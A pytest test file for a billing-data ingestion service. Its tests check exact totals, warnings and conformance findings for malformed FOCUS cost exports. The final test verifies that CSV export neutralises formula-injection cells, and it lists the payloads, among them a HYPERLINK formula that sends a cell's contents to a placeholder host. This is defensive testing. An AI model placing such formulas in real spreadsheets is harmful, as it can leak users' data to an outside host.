"""Each bug case of real billing data loads to its expected, exact values."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db.models import QuerySet, Sum

from finops_exec.exact import ExactSum, money_round
from portfolio.models import BillingSlice, DailySpend, Delivery, SpendBlock
from portfolio.rowstore import row_blocks, rows_list
from portfolio.savings import commitment_savings
from portfolio.selectors import spend_current, spend_for_scope, spend_unallocated
from portfolio.services.ingest import delivery_create, delivery_ingest, delivery_summary
from portfolio.units import row_unit_rate, unit_costs
from scopes.models import Dimension, Operator
from tests.conftest import BUGCASES_DIR
from tests.factories import scope_with_rules_create

pytestmark = pytest.mark.django_db


def _ingest(*names: str) -> Delivery:
    delivery = delivery_create(paths=[BUGCASES_DIR / name for name in names])
    return delivery_ingest(delivery=delivery)


def _sum(rows: QuerySet[DailySpend] | list[dict], field: str = "billed_cost") -> Decimal:
    """The exact sum of ``field``: by the database over daily sums, or over stored row dicts."""
    if isinstance(rows, QuerySet):
        return rows.aggregate(total=ExactSum(field))["total"]
    return sum((row[field] for row in rows if row[field] is not None), Decimal(0))


def _row_count(rows: QuerySet[DailySpend]) -> int:
    return rows.aggregate(n=Sum("row_count"))["n"] or 0


def _stored() -> list[dict]:
    """Every stored row, superseded ones included, in delivery and file order."""
    return rows_list(every=True)


def _warned_rows(delivery: Delivery, code: str) -> set[int]:
    return {row for w in delivery.warnings if w["code"] == code for row in w["rows"]}


def test_b01_a_second_byte_order_mark_leaves_no_trace_in_the_values():
    delivery = _ingest("B01-double-bom.csv")

    assert delivery.status == Delivery.Status.LOADED
    assert delivery.rows_loaded == 2
    rows = _stored()
    assert {row["billing_account_id"] for row in rows} == {"ba-1001"}
    assert _sum(rows) == _sum(spend_current()) == Decimal("12.50")
    for row in [*rows, *DailySpend.objects.values()]:
        assert not any("\ufeff" in str(value) for value in row.values())


def test_b03_translated_headers_reject_the_file_listing_them():
    delivery = _ingest("B03-localized-headers.csv")

    assert delivery.status == Delivery.Status.REJECTED
    assert (SpendBlock.objects.count(), DailySpend.objects.count()) == (0, 0)
    message = delivery.errors[0]["message"]
    assert message.startswith(
        "B03-localized-headers.csv: has 12 unrecognised headers that look like translated "
        "FOCUS column names: Abrechnungskonto-ID (BillingAccountId); "
    )
    assert "Abgerechnete Kosten (BilledCost)" in message


def test_b04_date_time_variants_become_utc_with_a_conformance_warning():
    delivery = _ingest("B04-datetime-variants.csv")

    assert delivery.status == Delivery.Status.LOADED
    assert delivery.errors == []
    rows = _stored()
    assert _sum(rows) == _sum(spend_current()) == Decimal("5.00")
    assert [row["source_row"] for row in rows] == [1, 2, 3, 4]
    starts = [(row["charge_period_start"], row["billed_cost"]) for row in rows]
    assert starts == [
        (dt.datetime(2025, 3, day, tzinfo=dt.UTC), Decimal("1.25")) for day in (1, 2, 3, 4)
    ]
    assert _warned_rows(delivery, "nonconformant_datetime") == {1, 3, 4}
    charge_start = next(
        w for w in delivery.warnings
        if w["code"] == "nonconformant_datetime" and w["column"] == "ChargePeriodStart"
    )  # fmt: skip
    assert charge_start["rows"] == [1, 3, 4]


def test_b08_a_newer_export_of_the_month_supersedes_the_older_and_a_replay_changes_nothing():
    first = _ingest("B08-mtd-export-run1.csv")
    second = _ingest("B08-mtd-export-run2.csv")

    current = rows_list()
    assert (first.status, second.status) == ("loaded", "loaded")
    assert len(current) == _row_count(spend_current()) == 3
    assert _sum(current) == _sum(spend_current()) == Decimal("31.00")
    by_day = {row["charge_period_start"].day: row["billed_cost"] for row in current}
    assert by_day == {1: Decimal("10.00"), 2: Decimal("12.00"), 3: Decimal("9.00")}
    daily = spend_current().values("charge_day").annotate(total=ExactSum("billed_cost"))
    assert {item["charge_day"].day: item["total"] for item in daily} == by_day
    old = BillingSlice.objects.get(delivery=first)
    assert (old.is_current, old.superseded_by_id) == (False, second.pk)

    replay = _ingest("B08-mtd-export-run1.csv")

    assert replay.status == Delivery.Status.LOADED
    assert replay.duplicate_of_id == first.pk
    assert replay.rows_loaded == 0
    assert [w["code"] for w in replay.warnings] == ["duplicate_delivery"]
    assert len(rows_list()) == _row_count(spend_current()) == 3
    assert _sum(spend_current()) == Decimal("31.00")
    assert len(_stored()) == 5


def test_b10_purchases_keep_their_effective_cost_and_no_row_is_flagged():
    delivery = _ingest("B10-purchase-effectivecost.csv")

    rows = _stored()
    assert delivery.rows_loaded == len(rows) == 4
    assert delivery.warnings == []
    assert delivery.conformance["findings"] == []
    assert delivery.conformance["columns_missing"] == []
    assert _sum(rows) == _sum(spend_current()) == Decimal("200.00")
    assert _sum(rows, "effective_cost") == _sum(spend_current(), "effective_cost")
    assert _sum(rows, "effective_cost") == Decimal("90.00")
    by_description = {row["charge_description"]: row["effective_cost"] for row in rows}
    assert by_description["Onboarding fee consumed this month"] == Decimal("50.00")
    assert by_description["Monthly SaaS seats"] == Decimal("30.00")
    assert by_description["Commitment covering future usage"] == Decimal("0.00")


@pytest.mark.parametrize("name", ["B11-tags-map.parquet", "B11-tags-string.parquet"])
def test_b11_parquet_tags_as_map_or_json_text_normalise_to_the_same_object(name):
    scope = scope_with_rules_create(
        "Payments", (Dimension.TAG, Operator.EQUALS, "payments", "team")
    )

    delivery = _ingest(name)

    assert delivery.status == Delivery.Status.LOADED
    assert delivery.rows_loaded == 3
    assert [row["tags"] for row in _stored()] == [{"env": "prod", "team": "payments"}] * 3
    daily_tags = {tuple(sorted(row.tags.items())) for row in spend_current()}
    assert daily_tags == {(("env", "prod"), ("team", "payments"))}
    assert _sum(spend_for_scope(scope=scope), "effective_cost") == Decimal("9.00")
    assert spend_unallocated().count() == 0


def test_b12_pre_1_0_names_are_read_as_their_current_columns():
    delivery = _ingest("B12-focus-1.0-preview-names.csv")

    assert delivery.focus_version == "1.0-preview"
    rows = _stored()
    assert [row["consumed_quantity"] for row in rows] == [Decimal(30), Decimal(100)]
    assert [row["consumed_unit"] for row in rows] == ["Hours", "GB-Months"]
    assert [row["region_id"] for row in rows] == ["region-1", "region-1"]
    assert _sum(rows) == _sum(spend_current()) == Decimal("8.00")
    assert rows[0]["billed_cost"] / rows[0]["consumed_quantity"] == Decimal("0.20")
    assert rows[0]["extras"] == {"ChargeSubcategory": "On-Demand"}
    renamed = {w["column"] for w in delivery.warnings if w["code"] == "renamed_column"}
    assert renamed == {"UsageQuantity", "UsageUnit", "Region"}


def test_b13_missing_conditional_columns_are_null_and_extra_columns_kept():
    delivery = _ingest("B13-missing-and-extra-columns.csv")

    rows = _stored()
    assert delivery.rows_loaded == len(rows) == 2
    assert _sum(rows) == _sum(spend_current()) == Decimal("7.50")
    assert [row["extras"] for row in rows] == [
        {"Id": "1", "x_CostCenterCode": "CC-100"},
        {"Id": "2", "x_CostCenterCode": "CC-200"},
    ]
    assert {
        (r["sub_account_id"], r["region_id"], r["charge_frequency"], r["sku_id"]) for r in rows
    } == {(None, None, None, None)}
    assert delivery.warnings == [
        {
            "code": "custom_column_without_prefix",
            "message": "B13-missing-and-extra-columns.csv: column Id is not a FOCUS column and "
            "lacks the x_ prefix of custom columns; it is kept with the row's extras.",
            "column": "Id",
            "rows": [],
            "file": "B13-missing-and-extra-columns.csv",
        }
    ]


def test_b14_totals_are_reported_per_currency_and_never_added_together():
    delivery = _ingest("B14-mixed-billing-currency.csv")

    summary = delivery_summary(delivery=delivery)
    assert summary["rows_loaded"] == 3
    assert {cur: sums["billed_cost"] for cur, sums in summary["totals"].items()} == {
        "EUR": "150.00",
        "USD": "80.00",
    }


def test_b15_negative_refunds_and_credits_keep_their_sign():
    delivery = _ingest("B15-negative-credits-refund.csv")

    rows = _stored()
    daily = spend_current()
    assert delivery.rows_loaded == len(rows) == 5
    assert delivery.rows_rejected == 0
    assert _sum(rows) == _sum(daily) == Decimal("88.00")
    by_category = {
        item["charge_category"]: item["total"]
        for item in daily.values("charge_category").annotate(total=ExactSum("billed_cost"))
    }
    assert by_category == {
        "Usage": Decimal("100.00"),
        "Purchase": Decimal("0.00"),
        "Credit": Decimal("-20.00"),
        "Tax": Decimal("8.00"),
    }
    assert by_category == {
        category: _sum([row for row in rows if row["charge_category"] == category])
        for category in by_category
    }
    assert sum(1 for row in rows if row["billed_cost"] < 0) == 2


def test_b20_gzip_is_found_from_its_magic_bytes():
    delivery = _ingest("B20-gzip-export.csv.gz")

    assert delivery.files[0]["format"] == "csv.gz"
    assert delivery.rows_loaded == len(_stored()) == 3
    assert _sum(_stored()) == _sum(spend_current()) == Decimal("4.50")


def _flagged_rows(delivery: Delivery) -> set[int]:
    return {row for finding in delivery.conformance["findings"] for row in finding["rows"]}


def test_b06_only_the_api_row_is_flagged_and_its_rate_comes_from_cost():
    delivery = _ingest("B06-pricing-block-size.csv")

    rows = _stored()
    assert delivery.rows_loaded == len(rows) == 3
    assert _sum(rows, "effective_cost") == _sum(spend_current(), "effective_cost")
    assert _sum(rows, "effective_cost") == Decimal("3.90")
    assert _sum(rows, "list_cost") == _sum(spend_current(), "list_cost") == Decimal("4.00")
    assert _flagged_rows(delivery) == {2}
    list_cost = next(
        f for f in delivery.conformance["findings"] if f["code"] == "list_cost_mismatch"
    )
    assert (list_cost["column"], list_cost["count"], list_cost["rows"]) == ("ListCost", 1, [2])
    (api,) = [row for row in rows if row["source_row"] == 2]
    assert api["list_unit_price"] * api["pricing_quantity"] == Decimal("10000.00")
    assert api["list_cost"] == Decimal("1.00")
    assert row_unit_rate(row=api) == (Decimal("0.00004"), "Requests")
    assert row_unit_rate(row=api, per=Decimal(10000)) == (Decimal("0.4"), "Requests")


def test_b09_accrual_savings_leave_the_prepaid_purchase_out():
    delivery = _ingest("B09-commitment-listcost-double-count.csv")

    rows = _stored()
    daily = spend_current()
    assert delivery.rows_loaded == len(rows) == 5
    assert _sum(rows) == _sum(daily) == Decimal("366.80")
    assert _sum(rows, "effective_cost") == _sum(daily, "effective_cost") == Decimal("4.80")
    # The naive, double-counted sum.
    assert _sum(rows, "list_cost") == _sum(daily, "list_cost") == Decimal("373.00")
    savings = commitment_savings()["USD"]
    assert savings.list_cost == Decimal("8.00")
    assert savings.effective_cost == Decimal("4.80")
    assert savings.savings_vs_list == Decimal("3.20")
    assert savings.contracted_cost == Decimal("7.20")
    assert savings.savings_vs_contracted == Decimal("2.40")
    assert savings.prepaid_rows_left_out == 1


def test_b10_savings_keep_purchases_whose_effective_cost_is_their_billed_cost():
    _ingest("B10-purchase-effectivecost.csv")

    savings = commitment_savings()["USD"]
    assert savings.prepaid_rows_left_out == 1
    assert savings.effective_cost == Decimal("90.00")
    assert savings.list_cost == Decimal("100.00")


def test_b13_the_conformance_report_names_the_column_without_prefix():
    delivery = _ingest("B13-missing-and-extra-columns.csv")

    report = delivery.conformance
    assert report["columns_unrecognised"] == ["Id"]
    assert report["findings"] == [
        {
            "code": "custom_column_prefix",
            "severity": "warning",
            "file": "B13-missing-and-extra-columns.csv",
            "column": "Id",
            "message": "B13-missing-and-extra-columns.csv: column Id is not a FOCUS column and "
            "its name lacks the x_ prefix that custom columns must have.",
            "count": 2,
            "rows": [1, 2],
        }
    ]


def test_b04_date_format_findings_are_warnings_on_rows_1_3_and_4():
    delivery = _ingest("B04-datetime-variants.csv")

    finding = next(
        f for f in delivery.conformance["findings"]
        if f["code"] == "datetime_format" and f["column"] == "ChargePeriodStart"
    )  # fmt: skip
    assert (finding["severity"], finding["count"], finding["rows"]) == ("warning", 3, [1, 3, 4])


def test_b17_token_quantities_are_summed_in_base_units():
    delivery = _ingest("B17-token-unit-mismatch.csv")

    rows = _stored()
    assert delivery.rows_loaded == len(rows) == 4
    assert _sum(rows, "effective_cost") == _sum(spend_current(), "effective_cost")
    assert _sum(rows, "effective_cost") == Decimal("9.00")
    assert _sum(rows, "consumed_quantity") == Decimal("3900050")  # the wrong, raw sum
    assert _sum(rows, "consumed_base_quantity") == Decimal("3950000")
    assert {row["consumed_base_unit"] for row in rows} == {"Tokens"}

    def blocks():
        columns = ["billing_currency", "effective_cost", "consumed_base_quantity",
                   "consumed_base_unit", "sku_id"]  # fmt: skip
        return row_blocks(columns=columns)

    per_million = Decimal(1_000_000)
    (blended,) = unit_costs(rows=blocks(), base_unit="Tokens", per=per_million)
    assert (blended.effective_cost, blended.base_quantity) == (Decimal("9.00"), Decimal(3950000))
    assert blended.cost_per.quantize(Decimal("0.0001")) == Decimal("2.2785")
    assert money_round(blended.cost_per) == Decimal("2.28")
    by_sku = {
        cost.key: cost.cost_per
        for cost in unit_costs(
            rows=blocks(), base_unit="Tokens", per=per_million, group_by="sku_id"
        )
    }
    assert by_sku == {
        "model-a-input": Decimal("3"),
        "model-b-input": Decimal("2"),
        "model-b-output": Decimal("2"),
        "model-c-input": Decimal("0.6"),
    }


def test_b18_the_whole_file_exports_with_the_four_formula_cells_neutralised(finance_api):
    delivery = _ingest("B18-formula-injection.csv")
    with open(BUGCASES_DIR / "B18-formula-injection.csv", newline="", encoding="utf-8") as file:
        source = list(csv.DictReader(file))

    stored = _stored()
    assert delivery.rows_loaded == len(stored) == 3
    assert _sum(stored) == _sum(spend_current()) == Decimal("15.00")
    assert [r["sub_account_name"] for r in stored] == [r["SubAccountName"] for r in source]
    assert [r["charge_description"] for r in stored] == [r["ChargeDescription"] for r in source]
    assert [r["resource_name"] for r in stored] == [r["ResourceName"] or None for r in source]
    groups = "sub_account_name,charge_description,resource_name"

    response = finance_api.get("/api/v1/spend/", {"group_by": groups, "format": "csv"})
    as_json = finance_api.get("/api/v1/spend/", {"group_by": groups}).json()

    cells = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    body = cells[1:]
    neutralised = [cell for row in body for cell in row[:3] if cell.startswith("'")]
    assert neutralised == [
        '\'=HYPERLINK("http://example.invalid/x?d="&A1,"open")',
        "'\tCredit with leading tab",
        "'@cmd test",
        "'+SUM(1,2)",
    ]
    assert [row[4] for row in body] == ["12.00", "-5.00", "8.00"]
    texts = {
        (g["sub_account_name"], g["charge_description"], g["resource_name"])
        for g in as_json["results"]
    }
    assert texts == {
        (r["SubAccountName"], r["ChargeDescription"], r["ResourceName"] or None) for r in source
    }
